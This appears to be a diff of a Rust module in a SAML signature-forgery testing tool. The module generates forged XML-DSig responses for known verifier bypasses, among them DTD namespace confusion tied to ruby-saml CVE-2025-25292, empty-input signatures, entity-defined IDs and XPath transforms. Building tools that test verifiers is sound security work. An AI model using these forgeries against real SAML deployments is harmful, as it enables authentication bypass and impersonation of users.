@@ -1,6 +1,9 @@
 //! XML-DSig internals: where verifiers read the digest or the SignedInfo from.
 
-use crate::bytes::{after_start_tag, before_end_tag, child, insert, Doc, Edits};
+use crate::bytes::{
+    after_name, after_start_tag, before_end_tag, child, declares_own_namespace, insert,
+    qualified_name, Doc, Edits,
+};
 use crate::crypto::{reference_digest, seed_digest_method, signed_info};
 use crate::family::token::{elements, resigned};
 use crate::family::{evil_id, forged, Parts};
@@ -8,7 +11,7 @@ use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
 use base64::Engine;
 use openssl::hash::MessageDigest;
-use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, PROTOCOL_NS};
 
 const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
 
@@ -144,42 +147,8 @@ pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
-/// Exclusive C14N that keeps comments.
-const EXC_C14N_WITH_COMMENTS: &str = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
-/// Inclusive Canonical XML 1.0.
-const INCLUSIVE_C14N: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
 /// The XPath filtering transform.
 const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
-
-/// Sets the Algorithm of every `(DSIG_NS, element)` whose Algorithm is `from` to `to`.
-fn algorithms(doc: &Doc, element: &str, from: &str, to: &str) -> Edits {
-    elements(doc, DSIG_NS, element)
-        .filter(|n| n.attribute("Algorithm") == Some(from))
-        .filter_map(|n| crate::bytes::attr_value(n, "Algorithm"))
-        .map(|r| (r, to.to_owned()))
-        .collect()
-}
-
-/// The IdP signs with exclusive C14N *with comments* as the Reference's transform.
-pub fn transform_with_comments(f: &Forge) -> Result<Forged, Skip> {
-    resigned(f, &|d| {
-        Ok(algorithms(d, "Transform", EXC_C14N, EXC_C14N_WITH_COMMENTS))
-    })
-}
-
-/// The IdP signs with inclusive C14N, both for SignedInfo and as the Reference's transform.
-pub fn inclusive_c14n(f: &Forge) -> Result<Forged, Skip> {
-    resigned(f, &|d| {
-        let mut edits = algorithms(d, "Transform", EXC_C14N, INCLUSIVE_C14N);
-        edits.extend(algorithms(
-            d,
-            "CanonicalizationMethod",
-            EXC_C14N,
-            INCLUSIVE_C14N,
-        ));
-        Ok(edits)
-    })
-}
 
 /// The IdP signs with an XPath filter transform after the enveloped one (here a harmless
 /// filter dropping comments; XPath filters can exclude any part of the element from the
@@ -189,7 +158,7 @@ pub fn xpath_transform(f: &Forge) -> Result<Forged, Skip> {
         Ok(elements(d, DSIG_NS, "Transform")
             .filter(|n| n.attribute("Algorithm") == Some(ENVELOPED))
             .map(|n| {
-                let tag = qualified_name(d, n);
+                let tag = qualified_name(d.src, n);
                 insert(
                     n.range().end,
                     format!("<{tag} Algorithm=\"{XPATH_TRANSFORM}\"><{x}>not(self::comment())</{x}></{tag}>", x = tag.replace("Transform", "XPath")),
@@ -197,15 +166,6 @@ pub fn xpath_transform(f: &Forge) -> Result<Forged, Skip> {
             })
             .collect())
     })
-}
-
-/// The element's name as written (with its prefix, if any).
-fn qualified_name<'a>(doc: &Doc<'a>, n: crate::bytes::Node) -> &'a str {
-    let start = n.range().start + 1;
-    let len = doc.src[start..]
-        .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
-        .unwrap_or(0);
-    &doc.src[start..start + len]
 }
 
 /// Base64 of the digest of nothing: what a verifier that digests a failed canonicalization as
@@ -231,11 +191,6 @@ fn digest_values(doc: &Doc, signature: crate::bytes::Node, value: &str) -> Edits
         .collect()
 }
 
-/// Where a new attribute goes in `node`'s start tag: right after its name.
-fn after_name(doc: &Doc, node: crate::bytes::Node) -> usize {
-    node.range().start + 1 + qualified_name(doc, node).len()
-}
-
 /// ruby-saml CVE-2025-25292 in SAML Raider's template shape: a DTD declares `xmlns` on
 /// `Signature` twice, so libxml2 (first declaration) puts an unprefixed `Signature` in the
 /// XML-DSig namespace and REXML (last declaration) does not. The genuine signature, unprefixed,
@@ -258,7 +213,7 @@ pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
         &empty_digest(seed_digest_method(sig))?,
     ));
     edits.push(insert(
-        after_name(&doc, p.assertion),
+        after_name(doc.src, p.assertion),
         " xmlns:example=\"http://example.com\u{80}\"",
     ));
     let moved = unprefixed_signature(&doc, sig);
@@ -267,7 +222,12 @@ pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
         format!("<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\">{moved}</samlp:StatusDetail>"),
     ));
     let xml = p.splice_unsigned_response(edits);
-    let root = qualified_name(&doc, p.root);
+    if Doc::parse_built(&xml).is_err() {
+        return Err(Skip::NotApplicable(
+            "the Signature's prefix is declared on the Assertion; copied into StatusDetail it would be unbound".into(),
+        ));
+    }
+    let root = qualified_name(doc.src, p.root);
     forged(
         format!("<!DOCTYPE {root} [<!ATTLIST Signature xmlns CDATA #FIXED \"{DSIG_NS}\" xmlns CDATA \"block\">]>{xml}"),
         swap,
@@ -278,8 +238,15 @@ pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
 /// (a prefix declaration, if any, stays for its children).
 fn unprefixed_signature(doc: &Doc, signature: crate::bytes::Node) -> String {
     let open_end = after_start_tag(doc.src, signature);
-    let name_end = after_name(doc, signature);
-    let attributes = doc.src[name_end..open_end].replace(&format!(" xmlns=\"{DSIG_NS}\""), "");
+    let name_end = after_name(doc.src, signature);
+    let mut attributes = doc.src[name_end..open_end].to_owned();
+    for quote in ['"', '\''] {
+        let declaration = format!("xmlns={quote}{DSIG_NS}{quote}");
+        if let Some(at) = attributes.find(&declaration) {
+            let start = attributes[..at].trim_end().len();
+            attributes.replace_range(start..at + declaration.len(), "");
+        }
+    }
     let inner = &doc.src[open_end..before_end_tag(doc.src, signature).max(open_end)];
     format!("<Signature{attributes}{inner}</Signature>")
 }
@@ -302,30 +269,25 @@ pub fn void_canonicalization(f: &Forge) -> Result<Forged, Skip> {
         &empty_digest(seed_digest_method(sig))?,
     ));
     edits.push(insert(
-        after_name(&doc, p.assertion),
+        after_name(doc.src, p.assertion),
         " xmlns:void=\"relative\"",
     ));
     let method = signed_info(sig)
         .and_then(|si| child(si, DSIG_NS, "SignatureMethod"))
         .and_then(|m| m.attribute("Algorithm"))
         .unwrap_or_default();
-    let digest = if method.ends_with("sha1") {
-        MessageDigest::sha1()
-    } else {
-        MessageDigest::sha256()
-    };
-    let mut signer = openssl::sign::Signer::new(digest, &key.key)
+    let value_node = child(sig, DSIG_NS, "SignatureValue")
+        .ok_or_else(|| Skip::NotApplicable("the signature has no SignatureValue".into()))?;
+    let mut signer = openssl::sign::Signer::new(crate::crypto::digest_method(method), &key.key)
         .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
     let value = signer
         .sign_oneshot_to_vec(b"")
         .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
-    if let Some(v) = child(sig, DSIG_NS, "SignatureValue") {
-        let open = after_start_tag(doc.src, v);
-        edits.push((
-            open..before_end_tag(doc.src, v).max(open),
-            base64::engine::general_purpose::STANDARD.encode(value),
-        ));
-    }
+    let open = after_start_tag(doc.src, value_node);
+    edits.push((
+        open..before_end_tag(doc.src, value_node).max(open),
+        base64::engine::general_purpose::STANDARD.encode(value),
+    ));
     forged(p.splice_unsigned_response(edits), swap)
 }
 
@@ -341,8 +303,7 @@ pub fn entity_defined_id(f: &Forge) -> Result<Forged, Skip> {
     let p = Parts::of(&doc)?;
     let sig = p.need_assertion_sig()?;
     let id = p.assertion_id();
-    let start_tag = &doc.src[sig.range().start..after_start_tag(doc.src, sig)];
-    if !start_tag.contains("xmlns") {
+    if !declares_own_namespace(doc.src, sig) {
         return Err(Skip::NotApplicable(
             "the Signature's namespace is declared on an ancestor; moved, it would be unbound"
                 .into(),
@@ -369,7 +330,7 @@ pub fn entity_defined_id(f: &Forge) -> Result<Forged, Skip> {
         insert(p.after_response_header(), copied),
         (p.assertion.range(), evil),
     ]);
-    let root = qualified_name(&doc, p.root);
+    let root = qualified_name(doc.src, p.root);
     forged(
         format!("<!DOCTYPE {root} [<!ENTITY idViaEntity \"{id}\"><!ENTITY BypassIDUniqueness \"&#x50;\">]>{xml}"),
         swap,
